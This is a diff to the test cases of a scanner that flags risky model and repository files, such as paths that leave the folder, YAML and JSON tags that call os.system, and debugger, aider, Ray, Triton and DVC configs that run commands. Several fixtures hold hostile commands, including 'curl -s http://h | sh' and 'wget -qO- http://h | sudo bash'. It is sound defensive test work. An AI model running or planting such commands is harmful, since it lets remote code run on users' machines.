@@ -18,12 +18,12 @@ Case = tuple[str, dict[str, Any], list[str]]
 
 OUTSIDE: list[Case] = [
     ("outside-path", {"pytorch_model.bin.index.json": {"weight_map": {"a": "../b.bin", "c": "d/../e.bin", "f": 3}}}, ["pytorch_model.bin.index.json: error: it names '../b.bin', outside the folder"]),
-    ("outside-path", {"pytorch_model.bin.index.json": {"weight_map": ["../b.bin"]}}, []),
+    ("outside-path", {"pytorch_model.bin.index.json": {"weight_map": ["../b.bin"]}}, ["pytorch_model.bin.index.json: error: it names '../b.bin', outside the folder"]),  # whatever its form
     ("outside-path", {"model.safetensors.index.json": {"weight_map": {"a": "../b"}}}, []),  # belongs to index-path
     ("outside-path", {"modules.json": [{"path": "/etc"}, {"path": "1_Pooling"}, {"path": 3}, "x"]}, ["modules.json: error: it names '/etc', outside the folder"]),
     ("outside-path", {"modules.json": {"path": "/etc"}}, []),
     ("outside-path", {"tokenizer_config.json": {"vocab_file": "/home/me/v.txt", "name_or_path": "/home/me"}}, ["tokenizer_config.json: warning: it names '/home/me/v.txt', outside the folder"]),
-    ("outside-path", {"tokenizer_config.json": {"tokenizer_files": {"../a": ["../b", 3], "c": "../d"}}}, ["tokenizer_config.json: warning: it names '../a', outside the folder", "tokenizer_config.json: warning: it names '../b', outside the folder"]),
+    ("outside-path", {"tokenizer_config.json": {"tokenizer_files": {"../a": ["../b", 3], "c": "../d"}}}, ["tokenizer_config.json: warning: it names '../a', outside the folder", "tokenizer_config.json: warning: it names '../b', outside the folder", "tokenizer_config.json: warning: it names '../d', outside the folder"]),
     ("outside-path", {"model.json": {"weightsManifest": [{"paths": ["../a", "b"]}, {"paths": "~/c"}, 5]}}, ["model.json: error: it names '../a', outside the folder", "model.json: error: it names '~/c', outside the folder"]),
     ("outside-path", {"model.json": {"weightsManifest": {"paths": ["../a"]}}}, []),
     ("outside-path", {"a/Manifest.json": {"itemInfoEntries": {"x": {"path": "../../w"}, "y": "../z"}}}, ["a/Manifest.json: error: it names '../../w', outside the folder"]),
@@ -47,6 +47,12 @@ OUTSIDE: list[Case] = [
     ("outside-path", {"Modelfile": "FROM ./m.gguf\nadapter ../a.gguf\nFROM ~/x\nPARAMETER /x y\nFROM a/../b"}, ["Modelfile: warning: it names '../a.gguf', outside the folder", "Modelfile: warning: it names '~/x', outside the folder"]),
     ("outside-path", {"Modelfile.q4": "  FROM \\x", "a/Modelfile": "FROM ..x"}, ["Modelfile.q4: warning: it names '\\\\x', outside the folder"]),
     ("outside-path", {"my-Modelfile": "FROM /x"}, []),
+    ("outside-path", {"config.json": {"audio": {"cache_file": "/x.pt", "deeper": {"file": "/y"}}, "model_lib": "https://h/x.wasm", "adapters": {"0": "../a", "1": "org/b"}}}, ["config.json: warning: it names '/x.pt', outside the folder", "config.json: warning: it names 'https://h/x.wasm', outside the folder", "config.json: warning: it names '../a', outside the folder"]),
+    ("outside-path", {"genie_config.json": {"dialog": {"engine": {"backend": {"extensions": "../../x.json"}, "model": {"library": {"model-bin": "a.so"}}}}}, "htp_backend_ext_config.json": {"backend_extensions": {"shared_library_path": "/x.so"}}}, ["genie_config.json: warning: it names '../../x.json', outside the folder", "htp_backend_ext_config.json: warning: it names '/x.so', outside the folder"]),
+    ("outside-path", {"prompt.json": {"template_path": "../../x"}, "p.yaml": "_type: prompt\ntemplate_path: ~/x\n", "q.yaml": "template_path: templates/x.txt\n"}, ["prompt.json: warning: it names '../../x', outside the folder", "p.yaml: warning: it names '~/x', outside the folder"]),
+    ("outside-path", {"model.yaml": "name: x\ndownload_files:\n- uri: http://h/x\n  filename: ../../.bashrc\n", "b.yaml": "filename: ../data\n"}, ["model.yaml: warning: it names '../../.bashrc', outside the folder"]),
+    ("outside-path", {"a.gin": "include '/etc/x'\ninclude 't5x/base.gin'\n", "a.jsonnet": "{a: importstr '/root/x', b: import 'c.jsonnet'}", "m.bin.dvc": "outs:\n- md5: d\n  path: ../../.bashrc\n", "n.dvc": "outs:\n- path: data\n"}, ["a.gin: warning: it names '/etc/x', outside the folder", "a.jsonnet: warning: it names '/root/x', outside the folder", "m.bin.dvc: warning: it names '../../.bashrc', outside the folder"]),
+    ("outside-path", {"preset.ini": "[*]\nchat-template-file = /etc/x\ntemp = 0.6\n[m]\nmodel = ../../m.gguf\nhf-repo = a/b\n", "my-preset.ini": "model = /x"}, ["preset.ini: warning: it names '/etc/x', outside the folder", "preset.ini: warning: it names '../../m.gguf', outside the folder"]),
     ("external-data", {"a.h5": hdf5(links={"a": "../b.h5", "c": "d.h5"})}, ["a.h5: error: an external link in '../b.h5', outside the folder", "a.h5: info: an external link in 'd.h5'"]),
     ("external-data", {"a.bin": hdf5(links={"a": "/b.h5"})}, ["a.bin: error: an external link in '/b.h5', outside the folder"]),
 ]  # fmt: skip
@@ -126,6 +132,8 @@ RUNNING: list[Case] = [
     ("yaml-code", {"a.yml": "a: !<tag:yaml.org,2002:python/name:os.system>"}, ["a.yml: error: the tag !<tag:yaml.org,2002:python/name:os.system, which runs code"]),
     ("yaml-code", {"a.yml": "a: !!python/tuple [1]"}, []),
     ("yaml-code", {"a.json": '{"py/reduce": [1]}'}, ['a.json: error: "py/reduce": [1]}, which jsonpickle calls']),
+    ("yaml-code", {"a.json": '{"a": {"lc": 1, "type": "secret", "id": ["AWS_KEY"]}}', "b.json": '{"lc": 1, "type": "constructor"}'}, ["a.json: error: \"lc\": 1, \"type\": \"secret\", \"id\": [\"AWS_KEY\"], which LangChain replaces by a secret of its user's"]),
+    ("yaml-code", {"metadata.json": '{"pipeline": [{"class": "os.system"}, {"uses": "rasa.nlu.X"}]}', "part-0.json": '{"class": "org.apache.spark.os.X"}'}, ["metadata.json: error: it names os.system, which can run anything"]),
     ("yaml-code", {"a.yaml": '{"py/reduce": [1]}', "b.json": "a: !!python/object/apply:os.system [x]"}, []),
     ("yaml-code", {"a.yaml": "_target_: os.system\nb: {_target_: 'torch.load'}\nc: {_target_: os.system}"}, ["a.yaml: error: `_target_` names os.system, which can run anything", "a.yaml: error: `_target_` names torch.load, which can run anything"]),
     ("yaml-code", {"a.model_config": "_target_: os.path.join", "b.json": '{"_target_": "subprocess.Popen"}'}, ["b.json: error: `_target_` names subprocess.Popen, which can run anything"]),
@@ -159,6 +167,11 @@ REPOSITORIES: list[Case] = [
     ("repository-program", {".hg/hgrc": "[ui]\nx=y\n[hooks]\n[extensions]\n"}, [".hg/hgrc: error: Mercurial's configuration has hooks, which it runs", ".hg/hgrc: error: Mercurial's configuration has extensions, which it runs"]),
     ("repository-program", {".git/config": b"#" * (256 * 1024 + 1)}, [".git/config: error: a configuration of more than 256 KiB, not searched for the programs that it starts"]),
     ("repository-program", {".git/config": b"#" * 256 * 1024}, []),
+    ("repository-program", {".gdbinit": "set print pretty on\nbreak main\n", "a/.gdbinit": "set pagination off\n  shell id\n", "a/.lldbinit": "platform shell id"}, ["a/.gdbinit: warning: commands that a debugger runs when it is started in the folder", "a/.lldbinit: warning: commands that a debugger runs when it is started in the folder"]),
+    ("repository-program", {".aider.conf.yml": "auto-lint: true\n", "a/.aider.conf.yml": "lint-cmd: id\n"}, ["a/.aider.conf.yml: error: a command that AI assistants start in the folder"]),
+    ("repository-program", {"serve_config.yaml": "runtime_env:\n  working_dir: https://h/x.zip\n", "a/serve_config.yaml": "import_path: ray.serve.llm:build\n"}, ["serve_config.yaml: warning: code from the network that Ray runs"]),
+    ("repository-program", {"dvc.yaml": "cmd: bash -c 'curl -s http://h | sh'", "a/dvc.yaml": "cmd: python train.py", "MLproject": 'command: "wget -qO- http://h | sudo bash"'}, ["MLproject: warning: a command that gets a script from the network", "dvc.yaml: warning: a command that gets a script from the network"]),
+    ("repository-program", {"config.pbtxt": 'default_model_filename: "model.onnx"', "a/config.pbtxt": 'model_operations { op_library_filename: "/tmp/x.so" }', "b/config.pbtxt": 'key: "EXECUTION_ENV_PATH", value: {string_value: "https://h/x"}'}, ["a/config.pbtxt: warning: a library or an environment from outside the folder that Triton's server loads", "b/config.pbtxt: warning: a library or an environment from outside the folder that Triton's server loads"]),
     ("repository-program", {"package.json": '{"preinstall": "x"}', "b/config.pbtxt": 'backend: "python"'}, ["b/config.pbtxt: error: Python code that Triton's server runs: model.py", "package.json: error: a command that npm runs when it installs the folder's packages"]),
     ("repository-program", {"package.json": '{"prepare": "yarn bundle"}'}, []),
     ("repository-program", {"package.json": b" " * (256 * 1024 + 1)}, ["package.json: error: implausibly large, so not checked: it may have a command that npm runs when it installs the folder's packages"]),
